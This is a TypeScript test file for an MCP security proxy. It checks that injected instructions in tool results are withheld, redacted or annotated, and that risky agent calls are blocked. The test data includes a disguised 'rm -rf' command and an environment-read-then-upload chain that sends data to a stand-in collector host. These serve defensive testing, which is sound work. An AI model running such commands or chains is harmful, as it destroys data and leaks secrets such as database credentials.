import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { afterEach, describe, expect, it } from 'vitest';
import { useTempDirs } from '../../testing/temp.js';
import { connectThroughProxy, createTestHome, verifiedEntries, writePolicy, type ProxiedClient, type TestHome } from '../testing/proxy-harness.js';
import { rpcError } from '../testing/rpc-error.js';

/*
 * The threat detectors as an agent meets them (docs/threat-detection.md): the MCP SDK's Client
 * calls a real server through `silas proxy`. Injected instructions in a tool's answer are
 * withheld, redacted or annotated as the policy says; a disguised command is refused; a chain of
 * calls is refused at the call that completes it, while the same calls in a harmless order pass;
 * a policy in monitor mode only records. Every hit is one `aip.threat` entry in the ledger.
 */

const SERVER = fileURLToPath(new URL('../testing/servers/threats-server.mjs', import.meta.url));
const tempDir = useTempDirs('silas-threats-');
const open: ProxiedClient[] = [];
afterEach(async () => {
  for (const p of open.splice(0)) await p.close().catch(() => undefined);
});

const TOOLS = '  allowed_tools: [read_page, get_env, fetch, write_file, run_command]\n';

async function start(extra = ''): Promise<{ dir: string; home: TestHome; client: ProxiedClient['client'] }> {
  const dir = tempDir();
  const home = createTestHome(join(dir, 'home'));
  const policy = writePolicy(dir, TOOLS + extra);
  const proxied = await connectThroughProxy({ home: home.home, policy, server: SERVER });
  open.push(proxied);
  return { dir, home, client: proxied.client };
}

function threats(home: TestHome) {
  return verifiedEntries(home).filter((e) => e.event === 'aip.threat').map((e) => e.data as { direction: string; source: string; action: string; tool?: string; findings: { detector: string; rule: string; path: string }[] });
}

const text = (result: unknown) => ((result as CallToolResult).content[0] as { text: string }).text;

describe('injected instructions in what a server returns', () => {
  it('are withheld by default: the agent gets an error naming the rule, the ledger the span', async () => {
    const { home, client } = await start();
    const error = await rpcError(client.callTool({ name: 'read_page', arguments: { url: 'https://news.example.com/a' } }));
    expect(error.code).toBe(-32001);
    expect(String((error.data as { reason: string }).reason)).toMatch(/withheld/);
    // The same tool's harmless answer passes untouched.
    expect(text(await client.callTool({ name: 'read_page', arguments: { url: 'https://food.example.com/pasta' } }))).toContain('salted water');
    const [hit] = threats(home);
    expect(hit).toMatchObject({ direction: 'downstream', source: 'result', action: 'block', tool: 'read_page' });
    expect(hit!.findings[0]).toMatchObject({ detector: 'injection', path: 'content[0].text' });
  });

  it('are replaced by a marker with results: redact, and announced to the agent with results: annotate', async () => {
    const redacting = await start('  x-silas-threats:\n    results: redact\n');
    const redacted = text(await redacting.client.callTool({ name: 'read_page', arguments: { url: 'https://news.example.com/a' } }));
    expect(redacted).toContain('Search complete: no results.');
    expect(redacted).toMatch(/\[REDACTED:injection:[a-z_]+\]/);
    expect(redacted).not.toContain('collector.example.net');

    const annotating = await start('  x-silas-threats:\n    results: annotate\n');
    const result = (await annotating.client.callTool({ name: 'read_page', arguments: { url: 'https://news.example.com/a' } })) as CallToolResult;
    expect((result.content[0] as { text: string }).text).toMatch(/^\[Silas: the text below contains what looks like injected instructions/);
    expect((result.content[1] as { text: string }).text).toContain('SYSTEM NOTE');
  });

  it('are only recorded when the policy is in monitor mode', async () => {
    const { home, client } = await start('  mode: monitor\n');
    expect(text(await client.callTool({ name: 'read_page', arguments: { url: 'https://news.example.com/a' } }))).toContain('SYSTEM NOTE');
    expect(threats(home).map((t) => t.action)).toEqual(['monitored']);
  });
});

describe('what the agent sends', () => {
  it('a disguised command is refused before it reaches the server', async () => {
    const { home, client } = await start();
    const error = await rpcError(client.callTool({ name: 'run_command', arguments: { command: 'r\\m -rf /var/lib/app' } }));
    expect(error.code).toBe(-32001);
    expect(error.data).toMatchObject({ detector: 'shell' });
    expect(text(await client.callTool({ name: 'run_command', arguments: { command: 'ls -la /home/user/projects' } }))).toContain('ok run_command');
    expect(threats(home)[0]).toMatchObject({ direction: 'upstream', source: 'arguments', action: 'block', tool: 'run_command' });
  });

  it('a chain begun before the owner saves a policy is refused after it: a reload keeps the session\'s history', async () => {
    const { dir, home, client } = await start();
    expect(text(await client.callTool({ name: 'get_env', arguments: { variable: 'DATABASE_URL' } }))).toContain('ok get_env');
    writePolicy(dir, `${TOOLS}  x-silas-threats:\n    chain_window: 25\n`, 'policy.yaml', { home });
    await expect.poll(() => verifiedEntries(home).some((e) => e.event === 'aip.policy_reloaded'), { timeout: 15_000 }).toBe(true);
    const error = await rpcError(client.callTool({ name: 'fetch', arguments: { url: 'https://collector.example.net/upload' } }));
    expect(error.code).toBe(-32001);
    expect(String((error.data as { reason: string }).reason)).toMatch(/completes the chain "environment read, then a network send"/);
  });

  it('a chain is refused at the call that completes it, and the same calls in a harmless order pass', async () => {
    const { home, client } = await start();
    expect(text(await client.callTool({ name: 'fetch', arguments: { url: 'https://docs.example.com/guide' } }))).toContain('ok fetch');
    expect(text(await client.callTool({ name: 'get_env', arguments: { variable: 'DATABASE_URL' } }))).toContain('ok get_env');
    const error = await rpcError(client.callTool({ name: 'fetch', arguments: { url: 'https://collector.example.net/upload' } }));
    expect(error.code).toBe(-32001);
    expect(String((error.data as { reason: string }).reason)).toMatch(/completes the chain "environment read, then a network send"/);
    const [hit] = threats(home);
    expect(hit).toMatchObject({ direction: 'upstream', source: 'chain', action: 'block', tool: 'fetch' });
    expect(hit!.findings[0]!.detector).toBe('chain');

    const benign = await start();
    await benign.client.callTool({ name: 'read_page', arguments: { url: 'https://food.example.com/pasta' } });
    expect(text(await benign.client.callTool({ name: 'write_file', arguments: { path: 'notes/pasta.md', content: 'Boil for nine minutes.' } }))).toContain('ok write_file');
    expect(text(await benign.client.callTool({ name: 'fetch', arguments: { url: 'https://docs.example.com/next' } }))).toContain('ok fetch');
    expect(threats(benign.home)).toEqual([]);
  });
});
